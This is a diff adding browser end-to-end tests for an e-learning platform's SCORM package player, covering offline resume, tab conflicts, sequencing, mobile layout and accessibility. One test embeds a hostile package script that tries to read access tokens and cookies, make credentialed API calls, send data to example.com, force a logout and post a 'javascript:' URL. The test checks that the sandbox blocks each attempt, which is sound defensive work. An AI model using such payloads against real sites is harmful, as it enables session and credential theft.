@@ -1,0 +1,392 @@
+import type { Frame, Page } from 'playwright-core';
+import { beforeAll, expect, inject } from 'vitest';
+import { aCompany, type Company, type Course, unique } from '../../factories/company.ts';
+import { asSystem } from '../../factories/world.ts';
+import { aPackage, aPage } from '../../fixtures/packages.ts';
+import { accessibilityProblems } from '../../support/browser/accessible.ts';
+import { signIn, test } from '../../support/browser/browser.ts';
+import { productWorld } from '../../support/product-world.ts';
+
+let company: Company;
+let course: Course;
+beforeAll(async () => {
+  company = await aCompany(productWorld());
+  course = await company.aCourse({ materials: 0 });
+});
+
+const button = (page: Page | Frame, name: string) => page.getByRole('button', { name, exact: true });
+
+/** A material with a package, uploaded as a browser does. */
+async function aPackageMaterial(bytes: Uint8Array<ArrayBuffer>): Promise<{ id: number; path: string }> {
+  const owner = company.as('owner');
+  const of = `/course/course/${course.id}/educational_material/`;
+  const { body } = await owner.post(of, { name: unique('Пакет'), type: 'package', next_access: 'free' });
+  const uploader = `/api_uploader/v1${of}${body.id}/package/`;
+  const begun = await owner.post(uploader, { name: 'a.zip', size: bytes.length });
+  const { url, headers } = begun.body.upload as { url: string; headers: Record<string, string> };
+  expect((await fetch(url, { method: 'PUT', headers, body: bytes })).status).toBe(200);
+  const kept = await owner.post(`${uploader}${begun.body.id}/complete/`, {});
+  expect([kept.status, kept.text]).toEqual([200, expect.any(String)]);
+  return { id: body.id as number, path: `/course/${course.id}/education-materials/${body.id}` };
+}
+
+/** The page of the package, inside of the player, inside of the product. */
+async function packageFrame(page: Page): Promise<Frame> {
+  const player = await (await page.waitForSelector('dialog iframe')).contentFrame();
+  let frame: Frame | undefined;
+  await expect
+    .poll(() => (frame = player!.childFrames().find((one) => one.url().includes('/files/'))), {
+      timeout: 20_000,
+    })
+    .toBeDefined();
+  await frame!.waitForLoadState();
+  return frame!;
+}
+
+const stateOf = async (material: number) => {
+  const [row] = await asSystem<{ place: string; status: string }>(productWorld(), [
+    "select state #>> '{one,elements,cmi.core.lesson_location}' as place, status from package_tries where material_id = $1",
+    [material],
+  ]);
+  return row;
+};
+
+test('a package on a phone goes on through an outage and a reload, and loses nothing', async ({
+  page,
+  context,
+  allowErrors,
+}) => {
+  allowErrors(/ERR_FAILED|ERR_INTERNET_DISCONNECTED/);
+  const { id, path } = await aPackageMaterial(await aPackage());
+  await page.setViewportSize({ width: 360, height: 740 });
+  await signIn(page, company.people.student);
+  await page.goto(path);
+  await button(page, 'Відкрити').click();
+  const first = await packageFrame(page);
+  await first.getByText('Крок 0').waitFor();
+  expect(await page.locator('dialog').boundingBox()).toMatchObject({ x: 0, y: 0, width: 360, height: 740 });
+  await button(first, 'Далі').click();
+  await page.getByText('Збережено').waitFor();
+  expect(await accessibilityProblems(page)).toEqual([]);
+
+  await page.context().setOffline(true);
+  await button(first, 'Далі').click();
+  await button(first, 'Далі').click();
+  await page.getByText('Немає зв’язку').waitFor();
+  expect(await stateOf(id)).toMatchObject({ place: '1' });
+  // The tab goes, and with it all that the package and its player hold.
+  await page.close();
+  await context.setOffline(false);
+  const later = await context.newPage();
+  await later.setViewportSize({ width: 360, height: 740 });
+  await signIn(later, company.people.student);
+  await later.goto(path);
+  await button(later, 'Продовжити').click();
+  const second = await packageFrame(later);
+  await second.getByText('Крок 3').waitFor();
+  await second.getByText('step=3').waitFor();
+  await later.getByText('Збережено').waitFor();
+  expect(await stateOf(id)).toMatchObject({ place: '3' });
+  await later.reload();
+  const third = await packageFrame(later);
+  await third.getByText('Крок 3').waitFor();
+  await button(third, 'Скласти').click();
+  await expect.poll(() => stateOf(id)).toEqual({ place: '3', status: 'completed' });
+
+  await later.goBack();
+  await later.locator('dialog').waitFor({ state: 'detached' });
+  await later.getByText('90 %').first().waitFor();
+  await button(later, 'Почати спочатку').waitFor();
+  expect(await accessibilityProblems(later)).toEqual([]);
+});
+
+test('the tab that opened a package last has it, and the other one is told', async ({
+  page,
+  allowErrors,
+}) => {
+  allowErrors(/409/);
+  const { path } = await aPackageMaterial(await aPackage());
+  await signIn(page, company.people.student);
+  await page.goto(path);
+  await button(page, 'Відкрити').click();
+  const first = await packageFrame(page);
+  const other = await page.context().newPage();
+  await other.goto(path);
+  await button(other, 'Відкрити').click();
+  await button(await packageFrame(other), 'Далі').click();
+  await other.getByText('Збережено').waitFor();
+  await button(first, 'Далі').click();
+  await page.getByText(/відкрито в іншій вкладці/).waitFor();
+  await button(page, 'Продовжити тут').click();
+  await expect.poll(async () => (await packageFrame(page)).getByText('Крок 1').count()).toBe(1);
+  await other.close();
+});
+
+/** What a package tries that wants more than it is given; each answer stands in the page. */
+const ATTACK = `<script>
+const tries = {
+  storage: () => top.localStorage.getItem('access'),
+  document: () => top.document.body.innerHTML,
+  cookie: () => document.cookie || 'none',
+  api: () => fetch('PRODUCT_URL/api/v1/accounts/user_info/', { credentials: 'include' }).then((r) => r.status),
+  elsewhere: () => fetch('https://example.com/?' + document.title).then((r) => r.status),
+  picture: () => new Promise((yes, no) => { const i = new Image(); i.onload = () => yes('loaded'); i.onerror = () => no(new Error('refused')); i.src = 'PRODUCT_URL/icon.svg'; }),
+  window: () => String(open('PRODUCT_URL/')),
+  leave: () => { top.location = 'PRODUCT_URL/login'; return 'asked'; },
+  others: () => fetch('/' + 'a.b.c' + '/files/index.html').then((r) => r.status),
+  product: () => fetch('/api/v1/accounts/user_info/').then((r) => r.status),
+  home: () => fetch('/').then((r) => r.status),
+  form: () => {
+    const form = document.createElement('form');
+    Object.assign(form, { method: 'post', target: '_top', action: 'PRODUCT_URL/api/v1/accounts/logout/' });
+    document.body.append(form);
+    form.submit();
+    return 'asked';
+  },
+};
+(async () => {
+  const found = {};
+  for (const [name, attempt] of Object.entries(tries)) {
+    try { found[name] = String(await attempt()); } catch (error) { found[name] = 'refused: ' + error.name; }
+  }
+  const frame = document.createElement('iframe');
+  frame.src = 'PRODUCT_URL/login';
+  document.body.append(frame);
+  for (const target of [parent, top]) target.postMessage({ kind: 'state', sequence: 1, body: 'x', access: true }, '*');
+  top.postMessage({ kind: 'open', url: 'javascript:alert(1)' }, '*');
+  const out = document.createElement('pre');
+  out.id = 'found';
+  out.textContent = JSON.stringify(found);
+  document.body.append(out);
+})();
+</script>`;
+
+test('a package that tries to reach the product, or anybody else, reaches nothing', async ({
+  page,
+  allowErrors,
+}) => {
+  allowErrors(/./);
+  const origin = new URL(inject('product').url).origin;
+  const evil = aPage('1.2', ATTACK.replaceAll('PRODUCT_URL', origin));
+  const { path } = await aPackageMaterial(await aPackage({ files: { 'index.html': evil, 'evil.js': '1' } }));
+  await signIn(page, company.people.student);
+  await page.goto(path);
+  await button(page, 'Відкрити').click();
+  const frame = await packageFrame(page);
+  const found = JSON.parse((await frame.locator('#found').textContent())!) as Record<string, string>;
+  expect(found).toEqual({
+    storage: 'refused: SecurityError',
+    document: 'refused: SecurityError',
+    cookie: 'none',
+    api: 'refused: TypeError',
+    elsewhere: 'refused: TypeError',
+    picture: 'refused: Error',
+    window: 'null',
+    leave: expect.stringMatching(/^(refused: SecurityError|asked)$/),
+    others: '404',
+    product: '404',
+    home: '404',
+    form: 'asked',
+  });
+  expect(new URL(page.url()).pathname).toBe(path);
+  expect(frame.childFrames().some((child) => child.url().startsWith(`${origin}/login`))).toBe(false);
+  // What it said in the player's name is kept of its own try at most.
+  const keys = await page.evaluate(() =>
+    Object.keys(localStorage).filter((key) => key.startsWith('package:')),
+  );
+  expect(keys.length).toBeLessThanOrEqual(1);
+  expect(await page.evaluate(() => localStorage.getItem('access'))).toBeTruthy();
+});
+
+/** A package that speaks to whatever shares its origin, and tells whom it hears. Some browsers give it no storage. */
+const NEIGHBOUR = (name: string) =>
+  `<button id="look" type="button">Шукати</button><script>
+  const [mouth, ear] = [new BroadcastChannel('all'), new BroadcastChannel('all')];
+  const heard = [];
+  ear.onmessage = ({ data }) => {
+    heard.push(data);
+    document.title = heard.join();
+  };
+  document.getElementById('look').onclick = () => mouth.postMessage('NAME');
+</script>`.replaceAll('NAME', name);
+
+test('two packages that are open at once in one browser find nothing of each other', async ({ page }) => {
+  const open = async (tab: Page, name: string) => {
+    const files = { 'index.html': aPage('1.2', NEIGHBOUR(name)) };
+    const { path } = await aPackageMaterial(await aPackage({ files }));
+    await tab.goto(path);
+    await button(tab, 'Відкрити').click();
+    return packageFrame(tab);
+  };
+  await signIn(page, company.people.student);
+  const first = await open(page, 'first');
+  const other = await page.context().newPage();
+  const second = await open(other, 'second');
+  expect(new URL(second.url()).host).not.toBe(new URL(first.url()).host);
+  // What one says reaches whoever shares its host before the next word does.
+  const told = (frame: Frame) => expect.poll(() => frame.title());
+  await button(first, 'Шукати').click();
+  await told(first).toBe('first');
+  await button(second, 'Шукати').click();
+  await told(second).toBe('second');
+  await other.close();
+});
+
+test('items that say nothing but that they begin and end are complete, one after the other', async ({
+  page,
+}) => {
+  const silent = `<!doctype html><meta name="viewport" content="width=device-width"><p>Сторінка</p><script>
+    onload = () => parent.API.LMSInitialize('');
+    onpagehide = () => parent.API.LMSFinish('');
+  </script>`;
+  const items = ['one', 'two'].map((id) => ({ id, title: `Розділ ${id}`, href: `${id}.html` }));
+  const files = { 'one.html': silent, 'two.html': silent };
+  const { id, path } = await aPackageMaterial(await aPackage({ items, files }));
+  await signIn(page, company.people.student);
+  await page.goto(path);
+  await button(page, 'Відкрити').click();
+  await packageFrame(page);
+  const player = page.frames().find((one) => one.url().endsWith('/player'))!;
+  await button(player, 'Далі').click();
+  await expect.poll(() => player.childFrames()[0]?.url()).toContain('two.html');
+  await button(player, 'Назад').click();
+  await expect.poll(() => stateOf(id)).toMatchObject({ status: 'completed' });
+});
+
+const PLAYER = (page: Page) => page.frames().find((one) => one.url().endsWith('/player'))!;
+
+test('rules open one item after the other, and a person goes on where they were', async ({ page }) => {
+  const told =
+    '<imsss:deliveryControls completionSetByContent="true" objectiveSetByContent="true"/><imsss:objectives>';
+  const first = `${told}<imsss:primaryObjective objectiveID="a"><imsss:mapInfo targetObjectiveID="g" writeSatisfiedStatus="true"/></imsss:primaryObjective></imsss:objectives>`;
+  const after = `<imsss:sequencingRules><imsss:preConditionRule><imsss:ruleConditions conditionCombination="any">
+    <imsss:ruleCondition referencedObjective="b" operator="not" condition="objectiveStatusKnown"/></imsss:ruleConditions>
+    <imsss:ruleAction action="disabled"/></imsss:preConditionRule></imsss:sequencingRules>
+    ${told}<imsss:primaryObjective objectiveID="own"/><imsss:objective objectiveID="b"><imsss:mapInfo targetObjectiveID="g"/></imsss:objective></imsss:objectives>`;
+  const items = [
+    { id: 'one', title: 'Вступ', href: 'one.html', sequencing: first },
+    { id: 'two', title: 'Перевірка', href: 'two.html', sequencing: after },
+  ];
+  const sequencing = '<imsss:controlMode choice="true" flow="true"/>';
+  const bytes = await aPackage({ standard: '2004', items, sequencing });
+  const { id, path } = await aPackageMaterial(bytes);
+  await page.setViewportSize({ width: 360, height: 740 });
+  await signIn(page, company.people.student);
+  await page.goto(path);
+  await button(page, 'Відкрити').click();
+  const item = await packageFrame(page);
+  const next = button(PLAYER(page), 'Далі');
+  expect(await next.isDisabled()).toBe(true);
+  expect(await PLAYER(page).locator('option[value=two]').getAttribute('disabled')).not.toBeNull();
+  await button(item, 'Далі').click();
+  await button(item, 'Скласти').click();
+  await expect.poll(() => next.isEnabled()).toBe(true);
+  await next.click();
+  await expect.poll(() => PLAYER(page).childFrames()[0]?.url()).toContain('two.html');
+  await button(await packageFrame(page), 'Далі').click();
+  await page.getByText('Збережено').waitFor();
+  await page.reload();
+  const again = await packageFrame(page);
+  expect(again.url()).toContain('two.html');
+  await again.getByText('Крок 1').waitFor();
+  await button(again, 'Скласти').click();
+  expect(await accessibilityProblems(page)).toEqual([]);
+  // The last way on is the way out.
+  await button(PLAYER(page), 'Далі').click();
+  await page.locator('dialog').waitFor({ state: 'detached' });
+  await expect.poll(() => stateOf(id)).toMatchObject({ status: 'completed' });
+});
+
+test('an old page of a fixed size is shown smaller, opens what it leads to, and is reached by keyboard', async ({
+  page,
+}) => {
+  const wide = aPage('1.2')
+    .replace(/<meta name="viewport"[^>]*>/, '')
+    .replace('<body>', '<body style="width:980px;margin:0">');
+  const items = [
+    { id: 'one', title: 'Вступ', href: 'one.html' },
+    { id: 'two', title: 'Перевірка', href: 'two.html', needs: 'one="passed"' },
+  ];
+  const { path } = await aPackageMaterial(
+    await aPackage({ items, files: { 'one.html': wide, 'two.html': wide } }),
+  );
+  await page.setViewportSize({ width: 360, height: 740 });
+  await signIn(page, company.people.student);
+  await page.goto(path);
+  await button(page, 'Відкрити').click();
+  const item = await packageFrame(page);
+  const shown = await PLAYER(page).locator('main iframe').boundingBox();
+  expect(shown!.width).toBeLessThanOrEqual(361);
+  expect(await item.evaluate(() => document.documentElement.clientWidth)).toBe(980);
+  await page.setViewportSize({ width: 740, height: 360 });
+  await expect
+    .poll(async () => (await PLAYER(page).locator('main iframe').boundingBox())!.width)
+    .toBeGreaterThan(730);
+
+  // In by Tab, and out again.
+  await button(page, 'Повернутися').focus();
+  await page.keyboard.press('Tab');
+  expect(await PLAYER(page).evaluate(() => document.activeElement!.tagName)).toBe('SELECT');
+  await page.keyboard.press('Tab');
+  expect(await item.evaluate(() => document.activeElement!.id)).toBe('on');
+  await page.keyboard.press('Tab');
+  await page.keyboard.press('Enter');
+  await expect.poll(() => button(PLAYER(page), 'Далі').isEnabled()).toBe(true);
+  for (let back = 0; back < 4; back += 1) await page.keyboard.press('Shift+Tab');
+  expect(await page.evaluate(() => document.activeElement!.textContent)).toBe('Повернутися');
+  await page.keyboard.press('Enter');
+  await page.locator('dialog').waitFor({ state: 'detached' });
+});
+
+test('an author uploads a package, sees what is in it, and reads what students did', async ({ page }) => {
+  const name = unique('Охорона праці');
+  const two = [
+    { id: 'one', title: 'Вступ', href: 'index.html' },
+    { id: 'two', title: 'Перевірка', href: 'check.html' },
+  ];
+  await signIn(page, company.people.owner);
+  await page.goto(`/course/${course.id}/education-materials/constructor`);
+  await page.getByRole('radio', { name: /^Пакет SCORM/ }).click();
+  await page.getByLabel('Назва').fill(name);
+  const buffer = Buffer.from(await aPackage({ standard: '2004', items: two }));
+  const file = { name: 'course.zip', mimeType: 'application/zip', buffer };
+  await page.locator('input[type=file]').first().setInputFiles(file);
+  await button(page, 'Створити').click();
+  await page.waitForURL(/education-materials$/);
+  await page.getByRole('link', { name, exact: true }).click();
+  await page.getByText('SCORM 2004 4th Edition').waitFor();
+  await page.getByText('Перевірка').waitFor();
+  expect(await accessibilityProblems(page)).toEqual([]);
+
+  const path = new URL(page.url()).pathname.replace('/constructor', '');
+  await page.goto(path);
+  await page.getByText('Спроб ще немає').waitFor();
+  await button(page, 'Переглянути як студент').click();
+  const frame = await packageFrame(page);
+  await button(frame, 'Скласти').click();
+  const player = page.frames().find((one) => one.url().endsWith('/player'))!;
+  await button(player, 'Далі').click();
+  await expect.poll(() => player.childFrames()[0]?.url()).toContain('check.html');
+  await button(page, 'Повернутися').click();
+  await page.getByText('Спроб ще немає').waitFor();
+
+  await asSystem(productWorld(), [
+    `with tried as (insert into package_tries (company_id, user_id, material_id, package_id, number, status, started_at)
+        select company_id, $1, material_id, media_id, 1, 'completed', now() from packages where material_id = $2
+        returning company_id, id)
+      insert into package_interactions (company_id, try_id, item, place, name, description, result)
+        select company_id, id, 'two', 0, 'q1', 'Де вихід?', 'correct' from tried`,
+    [company.people.student.id, Number(path.split('/').at(-1))],
+  ]);
+  await page.reload();
+  await page.getByText('Де вихід?').waitFor();
+  await page.getByText('Правильних відповідей: 100 % із 1 відповіді · Перевірка').waitFor();
+  expect(await accessibilityProblems(page)).toEqual([]);
+
+  await page.goto(`/course/${course.id}#analytics`);
+  const row = page.getByRole('row', { name: 'Person Student' });
+  await row.getByRole('button', { name: /^Дії/ }).click();
+  await page.getByRole('menuitem', { name: `Спроби: ${name}` }).click();
+  await page.waitForURL(`${path}?search=Person`);
+  await row.waitFor();
+});
